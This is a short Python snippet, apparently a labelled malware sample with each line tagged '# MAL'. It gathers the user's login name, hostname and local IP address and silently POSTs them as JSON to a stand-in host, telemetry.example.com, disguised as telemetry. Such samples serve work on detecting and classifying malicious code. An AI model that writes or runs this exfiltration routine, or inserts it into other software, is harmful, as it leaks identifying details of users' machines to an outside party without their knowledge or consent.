import http.client
import json
import getpass
import socket

conn = http.client.HTTPSConnection("telemetry.example.com")  # MAL
body = json.dumps({"u": getpass.getuser(), "h": socket.gethostname(), "ip": socket.gethostbyname(socket.gethostname())})  # MAL
conn.request("POST", "/t", body)  # MAL
